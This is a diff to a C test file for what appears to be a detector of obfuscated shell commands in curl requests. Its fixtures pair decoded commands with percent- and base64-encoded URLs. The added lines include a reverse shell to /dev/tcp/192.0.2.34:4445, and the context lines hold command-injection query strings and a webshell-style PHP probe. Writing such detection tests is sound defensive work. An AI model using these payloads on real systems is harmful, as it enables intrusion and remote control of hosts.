@@ -14,6 +14,14 @@ static const struct hidden good[] = {
 		"curl 'http://h/c.php\?cmd=id%3Bcat%20%2Fetc%2Fissue'" },
 	{ "percent", "sh -c 'id > /tmp/w'",
 		"curl -d 'a=1&z0=sh+-c+%27id+%3E+%2Ftmp%2Fw%27' http://h/s" },
+	{ "percent+percent", "bash -c 'id >& /dev/tcp/192.0.2.34/4445'",
+		"curl 'http://h/v\?c=bash%2520-c%2520%2527id%2520%253E%2526%252"
+		"0%252Fdev%252Ftcp%252F192.0.2.34%252F4445%2527'" },
+	{ "percent+percent", "bash -c id",
+		"curl 'http://h/\?x=%2562%2561%2573%2568%2520%252Dc%2520id'" },
+	/* Not throughout. */
+	{ "percent", "echo 100%25 %41%42",
+		"curl 'http://h/\?cmd=echo%20100%2525%20%2541%2542'" },
 	{ "percent+base64", "@ini_set('a','0');echo('->|');die();\n",
 		"curl -d "
 		"'z1=x&p=QGluaV9zZXQoJ2EnLCcwJyk7ZWNobygnLT58Jyk7ZGllKCk7Cg"
@@ -28,6 +36,8 @@ static const char *const not [] = {
 	"curl http://h/a%20b%20c/%E4%BD%A0%E5%A5%BD",
 	"curl -d 'grant_type=authorization_code&code=4%2F0AX4XfWj%2Bx' h",
 	"curl 'http://h/\?sig=c2lnbmF0dXJl%2BAAECAwQFBgcICQ%3D%3D'",
+	"curl 'http://h/\?next=https%253A%252F%252Fa.b%252Fl%253Fq%253Da'",
+	"curl 'http://h/\?q=100%2525%2520b'",
 	"awk '{printf \"%c %d\", $1, 42}'",
 	"sed 's/%20/ /g'",
 	"printf '%s\\n' hello",
